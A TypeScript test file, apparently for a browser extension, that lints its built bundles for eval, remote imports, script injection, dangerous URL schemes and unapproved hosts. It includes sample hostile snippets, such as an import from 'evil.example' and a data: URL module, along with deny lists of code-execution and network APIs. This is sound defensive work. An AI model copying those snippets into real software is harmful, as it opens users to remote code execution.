import { Window } from 'happy-dom';
import { Linter } from 'eslint';
import { describe, expect, test } from 'vitest';
import { filesOf, TARGETS } from './targets';

/** What runs text, runs code from elsewhere, or reaches the network; and `fetch`, which is counted. */
const GLOBALS = [
  ...['eval', 'Function', 'importScripts', 'WebAssembly', 'Worker', 'SharedWorker', 'DOMParser'],
  ...['XMLHttpRequest', 'WebSocket', 'WebTransport', 'EventSource', 'RTCPeerConnection', 'Image'],
];
/** The same by what it is called on something else, and what lets others speak to us. */
const MEMBERS = [
  ...['importScripts', 'outerHTML', 'insertAdjacentHTML', 'srcdoc', 'createContextualFragment'],
  ...['parseFromString', 'setHTMLUnsafe', 'parseHTMLUnsafe', 'execScript', 'writeln', 'sendBeacon'],
  ...['onMessageExternal', 'onConnectExternal', 'onConnect', 'onUserScriptMessage'],
];

/** Where a text, written out in any way, matches. A pattern here has \u002F for a slash. */
const textIs = (path: string, pattern: string) =>
  `:matches([${path}value=${pattern}], [${path}quasis.0.value.cooked=${pattern}])`;
const called = (path: string, names: string) =>
  `:matches([${path}property.name=${names}], ${textIs(`${path}property.`, names)})`;
const CALL = ':matches(CallExpression, NewExpression)';
const OWN_FILE = String.raw`/^\.{1,2}\u002F[\w.\u002F-]+\.js$/`;

const FORBIDDEN = {
  member: `MemberExpression${called('', `/^(${MEMBERS.join('|')})$/`)}`,
  // `eval` and `Function` by way of something, and a function’s own maker.
  maker: `${CALL}${called('callee.', '/^(eval|Function|constructor)$/')}`,
  write: `CallExpression[callee.object.name="document"]${called('callee.', '/^write$/')}`,
  timer:
    `CallExpression:matches([callee.name=/^set(Timeout|Interval)$/], ` +
    `${called('callee.', '/^set(Timeout|Interval)$/')})` +
    `[arguments.0.type=/^(Literal|TemplateLiteral|BinaryExpression)$/]`,
  import:
    ':matches(ImportDeclaration, ImportExpression, ExportAllDeclaration, ExportNamedDeclaration[source])' +
    `:matches([source.expressions.0], :not(${textIs('source.', OWN_FILE)}))`,
  element:
    `CallExpression${called('callee.', '/^createElement/')} > ` +
    textIs('', '/^(script|iframe|frame|object|embed|base|portal|meta)$/i'),
  tag: textIs('', String.raw`/<(script|iframe|frame|object|embed|base)\b/i`),
  // "Data: 5 May" is a date in some languages.
  scheme: textIs('', String.raw`/^\s*((javascript|blob|vbscript|wss?):|data:(?! \S))/i`),
};
/** What is there, and how often is known. */
const COUNTED = {
  markup: `MemberExpression${called('', '/^innerHTML$/')}`,
  'part of an address': textIs('', String.raw`/^\s*https?:(\u002F\u002F)?$/`),
};

const RULES: Linter.RulesRecord = {
  'no-restricted-globals': [
    'error',
    {
      globals: [...GLOBALS, 'fetch'].map((name) => ({ name, message: name })),
      checkGlobalObject: true,
      globalObjects: ['self', 'window'],
    },
  ],
  'no-restricted-syntax': [
    'error',
    ...Object.entries({ ...FORBIDDEN, ...COUNTED }).map(([message, selector]) => {
      return { message, selector };
    }),
  ],
};

const CONFIG: Linter.Config = {
  rules: RULES,
  languageOptions: { globals: { self: false, window: false } },
};

/** How webextension-polyfill keeps a method of all objects: no function is made of text. */
const HARMLESS = 'Function.call.bind(Object.prototype.hasOwnProperty)';

/** The targets share most of their code, and reading it takes seconds. */
const read = new Map<string, string[][]>();

/** What is found in a script: its kind, and the code there. */
function findingsIn(code: string): string[][] {
  const known = read.get(code);
  if (known) return known;
  const messages = new Linter().verify(code, CONFIG, { allowInlineConfig: false });
  const lines = code.split('\n');
  const found = messages.map(({ message, line, column }) => {
    const kind = message.replace(/^Unexpected use of '\w+'. /, '');
    return [kind, (lines[line - 1] ?? '').slice(column - 1, column + 59)];
  });
  const harmful = found.filter(([, text]) => !text?.startsWith(HARMLESS));
  read.set(code, harmful);
  return harmful;
}

test.each([
  ['eval', 'eval(a)'],
  ['eval', '(0, eval)(a)'],
  ['eval', 'globalThis.eval(a)'],
  ['Function', 'const make = Function; make(a)'],
  ['Worker', 'new Worker(a)'],
  ['Image', 'new Image().src = a'],
  ['fetch', 'self.fetch(a)'],
  ['member', 'self.importScripts(a)'],
  ['member', 'a["outerHTML"] = b'],
  ['member', 'chrome.runtime.onMessageExternal.addListener(a)'],
  ['maker', 'new globalThis[`Function`](a)'],
  ['maker', '(() => {}).constructor(a)()'],
  ['write', 'document.write(a)'],
  ['timer', 'setTimeout("a()")'],
  ['timer', 'window.setInterval(`a(${b})`, 5)'],
  ['import', 'import a from "https://evil.example/a.js"'],
  ['import', 'import("//evil.example/a.js")'],
  ['import', 'import(a)'],
  ['import', 'import(`./a.js${b}`)'],
  ['import', 'export * from "data:text/javascript,a"'],
  ['element', 'document.createElement("script")'],
  ['tag', 'const a = `<p><iframe src="a"></iframe></p>`'],
  ['scheme', 'const a = "javascript:b"'],
  ['markup', 'a.innerHTML = b'],
  ['part of an address', 'const a = `https://${b}`'],
])('%s is found in: %s', (kind, code) => {
  expect(findingsIn(code).map(([found]) => found)).toContain(kind);
});

test('what only looks like it is not found', () => {
  const code = `${HARMLESS};const a={eval:1,Function:2};a.Function;import("./a.js");import(\`./b.js\`);function b(fetch){a.fetch()};"eval(a)"`;
  expect(findingsIn(code)).toEqual([]);
});

/** Each address that may stand in what is packed, and why. Nothing is ever sent to but the first. */
const ALLOWED: [address: RegExp, why: string][] = [
  [/^https:\/\/www\.apple\.com\/support\/systemstatus\/\*?$/, 'Apple’s status: read, linked to'],
  [/^https:\/\/support\.apple\.com\/(\d+|\$\{\w+\})?$/, 'Apple’s articles: linked to'],
  [/^http:\/\/www\.w3\.org\/(1999\/xhtml|2000\/svg)$/, 'names of kinds of elements'],
  [/^idb:\/\/\$\{/, 'how Dexie names tables to itself'],
  [/^https:\/\/$/, 'what an address on paper is shown without'],
];
const SHORTCUTS: (typeof ALLOWED)[number] = [
  /^(chrome|edge):\/\/extensions\/shortcuts$/,
  'where shortcuts are changed: named, not linked to',
];

/** A scheme and all that may belong to an address; and what leaves out the scheme. */
const ADDRESS = /[a-z][a-z0-9+.-]*:\/\/[^\s"'`<>()[\];,\\]*|(?<=["'`(=]\s*)\/\/[a-z0-9$][^"'`)]*/gi;

describe.each(TARGETS)('the build for %s', (target) => {
  const files = filesOf(target);
  const texts = [...files].filter(([name]) => !name.endsWith('.png'));
  const ofType = (type: string) => texts.filter(([name]) => name.endsWith(type));

  test('runs no text and no code from elsewhere; only the worker asks Apple, pages read our own words', () => {
    const scripts = ofType('.js');
    expect(scripts.length).toBeGreaterThan(20);
    const found = scripts.flatMap(([name, code]) =>
      findingsIn(String(code)).map(([kind, text]) => {
        return { file: name.replace(/-[\w-]{8}\.js$/, ''), kind, text };
      }),
    );
    const isCounted = (kind = '') => kind === 'fetch' || kind in COUNTED;
    expect(found.filter(({ kind }) => !isCounted(kind))).toEqual([]);
    const counted = found.map(({ file, kind }) => `${kind}: ${file}`);
    expect(counted.sort()).toEqual([
      // The feed, for what a failure means, and our own words.
      ...Array<string>(3).fill('fetch: background.js'),
      'fetch: chunks/verdict',
      // Svelte’s: ESLint forbids `{@html}`, so it is called with constant templates only.
      'markup: chunks/verdict',
      // An address on paper is shown without it; one that the user follows is compared with it.
      'part of an address: chunks/print',
      'part of an address: chunks/verdict',
    ]);
  });

  test('names no host but Apple’s', () => {
    const hasShortcuts = target === 'chrome' || target === 'edge';
    const allowed = hasShortcuts ? [...ALLOWED, SHORTCUTS] : ALLOWED;
    const addresses = texts.flatMap(([, text]) => String(text).match(ADDRESS) ?? []);
    const isAllowed = (address: string) => allowed.some(([pattern]) => pattern.test(address));
    expect(addresses.filter((address) => !isAllowed(address))).toEqual([]);
    // Each is there: what is allowed and gone is allowed no more.
    const unused = allowed.filter(([pattern]) => !addresses.some((one) => pattern.test(one)));
    expect(unused).toEqual([]);
  });

  test('has pages that load our own files, and hold no code', () => {
    const pages = ofType('.html');
    expect(pages).toHaveLength(4);
    for (const [name, html] of pages) {
      const { document } = new Window();
      document.write(String(html));
      const all = [...document.querySelectorAll('*')];
      const tags = new Set(all.map(({ tagName }) => tagName.toLowerCase()));
      expect([...tags].sort()).toEqual(['body', 'head', 'html', 'link', 'meta', 'script', 'title']);
      const attributes = all.flatMap((element) => [...element.attributes]);
      expect(attributes.filter((one) => /^(on|style|http-equiv)/i.test(one.name))).toEqual([]);
      const loaded = attributes.filter((one) => ['src', 'href'].includes(one.name));
      const isOwn = (address: string | null) =>
        /^\/(assets|chunks)\//.test(`${address}`) && files.has(`${address}`.slice(1));
      expect(loaded.length).toBeGreaterThanOrEqual(2);
      expect(
        loaded.filter(({ value }) => !isOwn(value)),
        name,
      ).toEqual([]);
      const scripts = [...document.querySelectorAll('script')];
      expect(scripts.map((one) => [one.textContent, one.hasAttribute('src')])).toEqual([
        ['', true],
      ]);
    }
  });

  test('has styles that load nothing', () => {
    const styles = ofType('.css');
    expect(styles.length).toBeGreaterThan(5);
    expect(
      styles.flatMap(([, css]) => String(css).match(/@import|url\(|image-set\(/gi) ?? []),
    ).toEqual([]);
  });
});
